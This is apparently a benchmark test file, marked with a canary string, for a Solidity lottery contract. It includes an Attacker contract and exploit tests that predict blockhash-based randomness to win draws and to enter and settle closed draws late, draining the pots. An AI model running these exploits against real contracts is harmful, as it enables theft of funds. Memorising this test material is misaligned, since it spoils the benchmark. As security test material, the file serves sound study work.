// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./PointsDraw.sol";

// assay-canary-69f082f8-ba24-4e6f-85cc-01c9457d35b3

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function roll(uint256 number) external;
}

contract Points is ERC20("Points", "PTS") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1000;

    Points public points;
    PointsDraw private draw;
    Attacker private mallory;

    // six draws with ten entries each, closing in block 1020
    function setUp() public {
        vm.roll(START);
        points = new Points();
        draw = new PointsDraw(points);
        points.mint(ANA, 10_000 ether);
        points.mint(BEN, 10_000 ether);
        vm.prank(ANA);
        points.approve(address(draw), 10_000 ether);
        vm.prank(BEN);
        points.approve(address(draw), 10_000 ether);
        for (uint256 id = 1; id <= 6; id++) {
            draw.open(100 ether, 20);
            fill(id, 5);
        }
        mallory = new Attacker(draw, points);
        points.mint(address(mallory), 600 ether);
    }

    function fill(uint256 id, uint256 each) private {
        for (uint256 i = 0; i < each; i++) {
            vm.prank(ANA);
            draw.enter(id);
            vm.prank(BEN);
            draw.enter(id);
        }
    }

    function test_Regular() public {
        require(points.balanceOf(address(draw)) == 6_000 ether, "in the pots");
        uint256 before = points.balanceOf(ANA) + points.balanceOf(BEN);
        vm.roll(START + 20);
        fill(1, 1);
        vm.roll(START + 21);
        draw.settle(1);
        require(points.balanceOf(ANA) + points.balanceOf(BEN) == before + 1_000 ether, "one of them won");
        uint256 id = draw.open(7 ether, 3);
        require(id == 7 && draw.lastId() == 7, "seven");
        vm.prank(ANA);
        draw.enter(id);
        before = points.balanceOf(ANA);
        vm.roll(START + 24 + 251);
        draw.cancel(id);
        require(points.balanceOf(ANA) == before + 7 ether, "back");
        draw.transferOwnership(ANA);
        vm.prank(ANA);
        draw.renounceOwnership();
    }

    function test_RefusesTerms() public {
        vm.expectRevert("!points");
        new PointsDraw(IERC20(address(0)));
        vm.expectRevert("!terms");
        draw.open(0, 1);
        vm.expectRevert("!terms");
        draw.open(1, 0);
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        draw.open(1, 1);
        vm.expectRevert("SafeMath: addition overflow");
        draw.open(1, uint256(-1));
    }

    function test_RefusesEntries() public {
        fill(1, 20);
        vm.startPrank(ANA);
        vm.expectRevert("!room");
        draw.enter(1);
        vm.roll(START + 20 + 251);
        vm.expectRevert("!open");
        draw.enter(2);
        vm.stopPrank();
    }

    function test_RefusesSettlements() public {
        vm.roll(START + 20);
        vm.expectRevert("!closed");
        draw.settle(1);
        vm.roll(START + 21);
        draw.settle(1);
        vm.expectRevert("!entries");
        draw.settle(1);
        vm.roll(START + 20 + 250);
        vm.expectRevert("!early");
        draw.cancel(2);
        vm.roll(START + 20 + 251);
        vm.expectRevert("!late");
        draw.settle(2);
    }

    function exploit() public {
        mallory.enter();
        vm.roll(START + 20);
        for (uint256 i = 0; i < 200 && mallory.left() > 0; i++) {
            vm.roll(block.number + 1);
            mallory.settle();
        }
    }

    function test_Exploit() public {
        exploit();
        require(points.balanceOf(address(mallory)) >= 6_100 ether, "nothing gained");
    }

    function exploit2() public {
        vm.roll(START + 21);
        mallory.enterLate();
    }

    function test_Exploit2() public {
        exploit2();
        require(points.balanceOf(address(mallory)) >= 2_600 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(draw);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PointsDraw private draw;
    mapping(uint256 => bool) private done;
    uint256 public left = 6;

    constructor(PointsDraw _draw, IERC20 _points) {
        draw = _draw;
        _points.approve(address(_draw), uint256(-1));
    }

    function enter() external {
        for (uint256 id = 1; id <= 6; id++) {
            draw.enter(id);
        }
    }

    // enters those draws that one of its late entries wins, and settles them
    function enterLate() external {
        for (uint256 id = 1; id <= 6; id++) {
            uint256 seed = uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), id)));
            for (uint256 count = 1; count <= 6; count++) {
                if (seed % (10 + count) < 10) continue;
                for (uint256 i = 0; i < count; i++) draw.enter(id);
                draw.settle(id);
                break;
            }
        }
    }

    // settles those draws that the last entry of eleven wins in this block
    function settle() external {
        for (uint256 id = 1; id <= 6; id++) {
            if (done[id] || uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), id))) % 11 != 10) continue;
            draw.settle(id);
            done[id] = true;
            left--;
        }
    }
}
